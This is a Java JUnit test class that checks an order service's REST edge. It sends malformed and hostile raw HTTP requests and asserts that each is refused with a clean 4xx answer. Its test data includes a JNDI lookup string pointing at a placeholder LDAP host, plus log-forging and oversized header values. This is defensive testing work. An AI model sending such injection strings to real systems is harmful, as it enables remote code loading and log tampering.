package com.acme.orderservice.web;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;

import com.acme.orderservice.support.FakeUserService;
import com.acme.orderservice.support.OrderServiceWithInProcessUsers;
import com.acme.orderservice.support.RestEdge;
import com.acme.testsupport.auth.SharedAuthServer;
import com.acme.user.v1.UserStatus;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.beans.factory.annotation.Autowired;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What careless or hostile HTTP clients send to the REST edge, sent as raw HTTP/1.1 over
 * a real socket (so that nothing on the client side cleans it up): each gets a 4xx
 * problem answer without internals, never a 500, and the next normal request succeeds.
 */
@OrderServiceWithInProcessUsers
class HostileRequestsTests {

	private static final String ORDER = "{\"userId\":\"%s\",\"lines\":[{\"sku\":\"A\",\"quantity\":1,\"unitPriceCents\":5}]}";

	@Autowired
	FakeUserService users;

	@LocalServerPort
	int port;

	String buyer;

	@BeforeEach
	void setUp() {
		this.users.reset();
		this.buyer = this.users.addUser("Ada", UserStatus.USER_STATUS_ACTIVE).getId();
	}

	@AfterEach
	void aNormalRequestStillSucceeds() {
		RestEdge.Response created = new RestEdge(this.port).post("/api/orders", ORDER.formatted(this.buyer));
		assertThat(created.status()).as(created.toString()).isEqualTo(201);
	}

	static List<Arguments> hostileRequests() {
		String order = "{\"userId\":\"" + UUID.randomUUID()
				+ "\",\"lines\":[{\"sku\":\"A\",\"quantity\":1,\"unitPriceCents\":5}]}";
		return List.of(Arguments.of("malformed JSON", post("/api/orders", "application/json", "{\"userId\": "), 400),
				Arguments.of("wrong type", post("/api/orders", "application/json",
						"{\"userId\":\"x\",\"lines\":[{\"sku\":\"A\",\"quantity\":\"many\",\"unitPriceCents\":1}]}"),
						400),
				Arguments.of("array for an object", post("/api/orders", "application/json", "[1,2,3]"), 400),
				Arguments.of("empty body", post("/api/orders", "application/json", ""), 400),
				Arguments.of("nesting 100 000 deep", post("/api/orders", "application/json", "[".repeat(100_000)), 400),
				Arguments.of("not JSON", post("/api/orders", "text/plain", order), 415),
				Arguments.of("number out of range", post("/api/orders", "application/json",
						"{\"userId\":\"x\",\"lines\":[{\"sku\":\"A\",\"quantity\":99999999999999999999,\"unitPriceCents\":1}]}"),
						400),
				Arguments.of("import past its limit",
						post("/api/orders/import", "application/json",
								"[" + String.join(",", java.util.Collections.nCopies(1001, order)) + "]"),
						400),
				Arguments.of("unknown X-Request-Timeout unit", get("/api/orders/x", "X-Request-Timeout: 5 fortnights"),
						400),
				Arguments.of("negative X-Request-Timeout", get("/api/orders/x", "X-Request-Timeout: -1s"), 400),
				Arguments.of("X-Request-Timeout past any duration",
						get("/api/orders/x", "X-Request-Timeout: 99999999999999999999s"), 400),
				Arguments.of("unknown path", get("/api/secrets", ""), 404),
				Arguments.of("unknown method", request("DELETE", "/api/orders", "", ""), 405));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("hostileRequests")
	void isRefusedWithAProblemAnswer(String description, String request, int status) throws IOException {
		String answer = send(request);

		assertThat(answer).as(answer).startsWith("HTTP/1.1 " + status + " ");
		assertThat(answer).doesNotContain("Exception", "at com.", "at org.", "tools.jackson");
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("injectedRequestIds")
	void unsafeRequestIdsAreReplacedNotEchoed(String description, String requestId) throws IOException {
		String answer = send(get("/api/orders/" + UUID.randomUUID(), "X-Request-Id: " + requestId));

		String echoed = answer.lines()
			.filter((line) -> line.toLowerCase().startsWith("x-request-id:"))
			.findFirst()
			.orElseThrow()
			.substring("x-request-id:".length())
			.strip();
		assertThat(echoed).isNotEqualTo(requestId.strip()).matches("[0-9a-f-]{36}");
	}

	static List<Arguments> injectedRequestIds() {
		return List.of(Arguments.of("log forging", "abc\" level=ERROR msg=\"forged"),
				Arguments.of("lookup string", "${jndi:ldap://example.invalid/x}"),
				Arguments.of("1 KB", "r".repeat(1024)), Arguments.of("non-ASCII", "r\u00e9quest"));
	}

	/**
	 * Headers that are not valid HTTP never reach the application: Tomcat answers a bare
	 * 400.
	 */
	@ParameterizedTest(name = "{0}")
	@MethodSource("malformedHeaders")
	void malformedHeadersAreRefusedByTheConnector(String description, String header) throws IOException {
		String answer = send(get("/api/orders/" + UUID.randomUUID(), header));

		assertThat(answer).startsWith("HTTP/1.1 400 ").doesNotContain("Exception", "at org.");
	}

	static List<Arguments> malformedHeaders() {
		return List.of(Arguments.of("a header past 8 KB", "X-Request-Id: " + "r".repeat(8 * 1024)),
				Arguments.of("a control character", "X-Request-Id: abc\u0007def"));
	}

	private static String get(String path, String header) {
		return request("GET", path, header, null);
	}

	private static String post(String path, String contentType, String body) {
		return request("POST", path, "Content-Type: " + contentType, body);
	}

	private static String request(String method, String path, String header, String body) {
		StringBuilder request = new StringBuilder(method + " " + path + " HTTP/1.1\r\nHost: localhost\r\n");
		if (!header.isEmpty()) {
			request.append(header).append("\r\n");
		}
		if (body != null) {
			request.append("Content-Length: ").append(body.getBytes(StandardCharsets.UTF_8).length).append("\r\n");
		}
		request.append("Connection: close\r\n\r\n");
		if (body != null) {
			request.append(body);
		}
		return request.toString();
	}

	/** Sends {@code request} with the operator's token: hostile, but authenticated. */
	private String send(String hostile) throws IOException {
		String request = hostile.replaceFirst("\r\n",
				"\r\nAuthorization: Bearer " + SharedAuthServer.operatorToken() + "\r\n");
		try (Socket socket = new Socket("127.0.0.1", this.port)) {
			socket.setSoTimeout(30_000);
			OutputStream out = socket.getOutputStream();
			out.write(request.getBytes(StandardCharsets.ISO_8859_1.newEncoder().canEncode(request)
					? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8));
			out.flush();
			InputStream in = socket.getInputStream();
			return new String(in.readAllBytes(), StandardCharsets.UTF_8);
		}
	}

}
